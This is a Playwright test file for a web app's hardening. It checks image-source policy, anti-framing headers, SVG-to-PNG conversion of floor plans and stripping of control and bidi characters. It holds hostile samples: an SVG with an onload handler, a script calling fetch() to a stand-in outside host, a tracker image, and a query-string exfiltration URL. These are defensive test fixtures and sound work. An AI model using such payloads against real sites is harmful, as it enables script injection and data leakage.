import { readFileSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { encodePng } from '../fixtures/makePmtiles.mjs';
import { createBoard, openBoard, start } from './pages/app';
import {
  basemapTool,
  floorPlan,
  mapCanvas,
  openTrainingMap,
  storedBasemap,
  useImage,
  useTiles,
} from './pages/basemaps';
import { canvas, newPersonBox, personOption, storedRecords, waitForTestApi } from './pages/board';

/**
 * Hardening (issue 14): the page takes pictures only from itself and the one tile server a board's
 * map uses; it refuses to be framed by another site; an SVG floor plan is stored as a PNG and
 * nothing in it runs.
 */

test.use({ viewport: { width: 1920, height: 1080 } });

const TILES = 'http://tiles.harrowfield.test';
const ELSEWHERE = 'http://pictures.elsewhere.test';
const picture = encodePng(256, 256, Buffer.alloc(256 * 256 * 3, 0xd8));

/** Serves a picture for every address under `origin`, and lists what was asked for. */
async function servePictures(page: Page, origin: string): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${origin}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'image/png', body: picture });
  });
  return asked;
}

/** Puts an image from `url` into the page (as injected markup would) and says what the policy did. */
function tryImage(
  page: Page,
  url: string,
): Promise<{ blocked: string; directive: string } | 'loaded' | 'failed'> {
  return page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const img = new Image();
        document.addEventListener(
          'securitypolicyviolation',
          (e) => resolve({ blocked: e.blockedURI, directive: e.effectiveDirective }),
          { once: true },
        );
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('failed');
        img.src = src;
        document.body.append(img);
      }),
    url,
  );
}

test('the map takes tiles only from the server chosen for it; a picture from any other site is blocked', async ({
  page,
}) => {
  const tilesAsked = await servePictures(page, TILES);
  const elsewhereAsked = await servePictures(page, ELSEWHERE);
  await openTrainingMap(page);

  // The page opened the map on the sketch, so it allows no tile server until it is reloaded.
  const form = await useTiles(page, `${TILES}/{z}/{x}/{y}.png`, '© Harrowfield test tiles');
  await expect(form).toBeHidden();
  const note = page.getByRole('alert').filter({ hasText: 'shown after a reload' });
  await expect(note).toContainText(
    'Tiles from tiles.harrowfield.test are shown after a reload: for safety, this page takes pictures only from the map servers it started with.',
  );
  expect(tilesAsked).toEqual([]);
  await note.getByRole('button', { name: 'Reload' }).click();

  await page.getByRole('button', { name: 'Network and map', exact: true }).click();
  await expect(mapCanvas(page).locator('.basemap-credit')).toHaveText('© Harrowfield test tiles');
  await expect(
    mapCanvas(page).locator('.basemap-tiles img.leaflet-tile-loaded').first(),
  ).toBeVisible();
  expect(tilesAsked.length).toBeGreaterThan(0);

  // Injected markup could not send anything out through a picture's address.
  expect(await tryImage(page, `${ELSEWHERE}/pixel.png?name=Jordan`)).toEqual({
    blocked: `${ELSEWHERE}/pixel.png?name=Jordan`,
    directive: 'img-src',
  });
  expect(elsewhereAsked).toEqual([]);
  // The app's own pictures still load.
  expect(
    await tryImage(
      page,
      'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
    ),
  ).toBe('loaded');
});

test('the app refuses to be shown in another site’s frame, and says so in its headers', async ({
  page,
  baseURL,
}) => {
  const response = await page.request.get('/');
  expect(response.headers()).toMatchObject({
    'content-security-policy': "frame-ancestors 'none'",
    'x-frame-options': 'DENY',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
  });

  await page.route('http://framing.elsewhere.test/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>Another site</title><iframe title="Peers and Places" src="${baseURL}/?e2e"></iframe>`,
    }),
  );
  await page.goto('http://framing.elsewhere.test/');
  const framed = () => page.frames().find((f) => f !== page.mainFrame());
  await expect.poll(() => framed()?.url()).toMatch(/^chrome-error:/);
  await expect(
    page.frameLocator('iframe').getByRole('dialog', { name: 'Who is using this device?' }),
  ).toHaveCount(0);
});

/**
 * A floor plan drawn as SVG, as a drawing program saves it, with what a hostile one adds: a script,
 * an onload handler and a picture from another site, each of which would leave a trace if it ran.
 */
function hostileSvg(width: number, height: number): Buffer {
  return Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}" viewBox="0 0 1200 800"
     onload="localStorage.setItem('svg-ran', 'onload')">
  <rect width="1200" height="800" fill="#f5f5f5"/>
  <rect x="8" y="8" width="1184" height="784" fill="none" stroke="#282828" stroke-width="12"/>
  <path d="M300 8V792M600 8V792M900 8V792" stroke="#282828" stroke-width="6"/>
  <script>localStorage.setItem('svg-ran', 'script'); fetch('${ELSEWHERE}/ran');</script>
  <image href="${ELSEWHERE}/tracker.png" width="10" height="10"/>
</svg>`);
}

/** The background images stored on the device, as IndexedDB holds them. */
function storedPictures(page: Page): Promise<
  {
    id: string;
    fileName: string;
    type: string;
    size: number;
    dataType: string;
    head: string;
    text: string;
  }[]
> {
  return page.evaluate(
    () =>
      new Promise((resolve, reject) => {
        const req = indexedDB.open('peers-and-places');
        req.onerror = () => reject(new Error(String(req.error)));
        req.onsuccess = () => {
          const db = req.result;
          const all = db.transaction('basemapFiles').objectStore('basemapFiles').getAll();
          all.onerror = () => reject(new Error(String(all.error)));
          all.onsuccess = async () => {
            db.close();
            const rows = all.result as {
              id: string;
              fileName: string;
              type: string;
              size: number;
              data: Blob;
            }[];
            resolve(
              await Promise.all(
                rows.map(async (r) => {
                  const bytes = new Uint8Array(await r.data.arrayBuffer());
                  return {
                    id: r.id,
                    fileName: r.fileName,
                    type: r.type,
                    size: r.size,
                    dataType: r.data.type,
                    head: String.fromCharCode(...bytes.slice(1, 4)),
                    text: new TextDecoder('latin1').decode(bytes),
                  };
                }),
              ),
            );
          };
        };
      }),
  );
}

test('an SVG floor plan with a script in it is kept as a PNG and shown; nothing in it ever runs', async ({
  page,
  context,
}) => {
  const elsewhereAsked = await servePictures(page, ELSEWHERE);
  await openTrainingMap(page);
  const form = await useImage(page, {
    name: 'youth-centre-plan.svg',
    mimeType: 'image/svg+xml',
    buffer: hostileSvg(1200, 800),
  });
  await expect(form).toBeHidden();
  await expect(await basemapTool(page)).toHaveText('Basemap: Image: youth-centre-plan.svg');
  const image = mapCanvas(page).locator('img.basemap-image');
  await expect(image).toBeVisible();
  expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1200);

  const [stored] = await storedPictures(page);
  expect(stored).toMatchObject({
    fileName: 'youth-centre-plan.svg',
    type: 'image/png',
    dataType: 'image/png',
    head: 'PNG',
  });
  expect(stored!.text).not.toContain('<script');
  expect(stored!.text).not.toContain('svg');
  expect((await storedBasemap(page)).basemap).toMatchObject({
    kind: 'image',
    width: 1200,
    height: 800,
  });

  // Even opened as a page at its own address in the app's origin, what is stored is a picture.
  const url = await image.getAttribute('src');
  expect(url).toMatch(/^blob:/);
  const opening = context.waitForEvent('page');
  await page.evaluate((u) => window.open(u!), url);
  const opened = await opening;
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => document.contentType)).toBe('image/png');
  await opened.close();

  expect(await page.evaluate(() => localStorage.getItem('svg-ran'))).toBeNull();
  expect(elsewhereAsked).toEqual([]);
});

test('an image larger than 8,192 pixels is kept smaller, with a message; places keep its own pixels', async ({
  page,
}) => {
  await openTrainingMap(page);
  const form = await useImage(page, floorPlan(9_000, 600));
  await expect(form).toBeHidden();
  await expect(page.getByRole('status').filter({ hasText: 'is kept at' })).toHaveText(
    '“school-floor-plan.png” is 9,000 × 600 pixels: it is kept at 8,192 × 546, enough for any screen or print, so the map stays quick. Places on it keep the image’s own pixel positions.',
  );
  const image = mapCanvas(page).locator('img.basemap-image');
  await expect(image).toBeVisible();
  expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(8_192);
  expect((await storedBasemap(page)).basemap).toMatchObject({ width: 9_000, height: 600 });
});

test('an SVG floor plan stored by an older version is redrawn as a picture before the map shows it', async ({
  page,
  context,
}) => {
  await openTrainingMap(page);
  await expect(await useImage(page, floorPlan(1200, 800))).toBeHidden();
  await expect(mapCanvas(page).locator('img.basemap-image')).toBeVisible();
  // As an older version stored it: the SVG file itself, under the same record.
  const svg = hostileSvg(1200, 800).toString('utf8');
  await page.evaluate(
    (text) =>
      new Promise<void>((resolve, reject) => {
        const req = indexedDB.open('peers-and-places');
        req.onsuccess = () => {
          const db = req.result;
          const tx = db.transaction('basemapFiles', 'readwrite');
          const store = tx.objectStore('basemapFiles');
          const all = store.getAll();
          all.onsuccess = () => {
            const [row] = all.result as Record<string, unknown>[];
            const data = new Blob([text], { type: 'image/svg+xml' });
            store.put({ ...row, type: 'image/svg+xml', size: data.size, data });
          };
          tx.oncomplete = () => {
            db.close();
            resolve();
          };
          tx.onerror = () => reject(new Error(String(tx.error)));
        };
      }),
    svg,
  );
  expect((await storedPictures(page))[0]).toMatchObject({ dataType: 'image/svg+xml' });
  await page.reload();
  await page.getByRole('button', { name: 'Network and map', exact: true }).click();
  const image = mapCanvas(page).locator('img.basemap-image');
  await expect(image).toBeVisible();
  expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1200);
  // What the map gave an address to is a PNG drawn from it, not the SVG: opened, it is a picture.
  const opening = context.waitForEvent('page');
  await page.evaluate((u) => window.open(u!), await image.getAttribute('src'));
  const opened = await opening;
  await opened.waitForLoadState();
  expect(await opened.evaluate(() => document.contentType)).toBe('image/png');
  await opened.close();
  expect(await page.evaluate(() => localStorage.getItem('svg-ran'))).toBeNull();
});

/** The version 1 fixture with its floor plan swapped for `svg`, saved where the test can open it. */
function boardFileWithSvg(svg: Buffer, fileName: string): string {
  const file = JSON.parse(
    readFileSync(resolve(import.meta.dirname, '../../fixtures/boardFile/v1.json'), 'utf8'),
  ) as {
    boards: {
      board: { basemap: { fileName: string } };
      tables: { basemapFiles: Record<string, unknown>[] };
    }[];
  };
  const [entry] = file.boards;
  entry!.board.basemap.fileName = 'youth-centre-plan.svg';
  Object.assign(entry!.tables.basemapFiles[0]!, {
    fileName: 'youth-centre-plan.svg',
    size: svg.length,
    type: 'image/svg+xml',
    data: { type: 'image/svg+xml', base64: svg.toString('base64') },
  });
  const path = test.info().outputPath(fileName);
  writeFileSync(path, JSON.stringify(file));
  return path;
}

async function openBoardFile(page: Page, path: string): Promise<void> {
  const choosing = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Open board file' }).click();
  await (await choosing).setFiles(path);
}

test('a board file holding an SVG floor plan comes in with it redrawn as a PNG; a damaged one is refused', async ({
  page,
}) => {
  await start(page);
  await openBoardFile(
    page,
    boardFileWithSvg(
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="80"'),
      'damaged-plan.json',
    ),
  );
  const refused = page.getByRole('alertdialog', { name: '“damaged-plan.json” was not opened' });
  await expect(refused).toContainText(
    'In board “Harrowfield youth centre (fixture)”: the background image cannot be kept. “youth-centre-plan.svg” could not be read as an image',
  );
  await refused.getByRole('button', { name: 'Close' }).click();
  expect(await storedPictures(page)).toEqual([]);

  await openBoardFile(page, boardFileWithSvg(hostileSvg(80, 60), 'svg-plan.json'));
  await expect(page.getByRole('status').filter({ hasText: 'from “svg-plan.json”' })).toHaveText(
    'Opened “Harrowfield youth centre (fixture)” from “svg-plan.json”.',
  );
  const [stored] = await storedPictures(page);
  expect(stored).toMatchObject({
    id: 'bf-plan',
    fileName: 'youth-centre-plan.svg',
    type: 'image/png',
    dataType: 'image/png',
    head: 'PNG',
  });
  expect(stored!.text).not.toContain('<script');

  await openBoard(page, 'Harrowfield youth centre (fixture)');
  await page.getByRole('button', { name: 'Network and map', exact: true }).click();
  const image = mapCanvas(page).locator('img.basemap-image');
  await expect(image).toBeVisible();
  expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(80);
  expect(await page.evaluate(() => localStorage.getItem('svg-ran'))).toBeNull();
});

test('control characters and bidi overrides pasted into a name or the capture line never get in', async ({
  page,
}) => {
  await start(page);
  await createBoard(page, { title: 'Eastgate strategy meeting' });
  await waitForTestApi(page);
  await canvas(page).focus();
  await page.keyboard.press('n');
  await expect(newPersonBox(page)).toBeFocused();
  // Pasted from another program: a NUL, a bell, and an override that would show "Ade" reversed.
  await page.keyboard.insertText('Jor\u0000dan\u0007 \u202EAde\u202C');
  await expect(newPersonBox(page)).toHaveValue('Jordan Ade');
  await page.keyboard.press('Enter');
  await expect(personOption(page, 'Jordan Ade')).toBeVisible();
  const people = await storedRecords<{ displayName: string }>(page, 'people');
  expect(people.map((p) => p.displayName)).toEqual(['Jordan Ade']);

  await canvas(page).focus();
  await page.keyboard.press('c');
  const capture = page.getByRole('combobox', { name: 'Capture' });
  await expect(capture).toBeFocused();
  await page.keyboard.insertText('Kay\u2066den\u2069\u200B\u001B[31m is');
  await expect(capture).toHaveValue('Kayden[31m is');
});
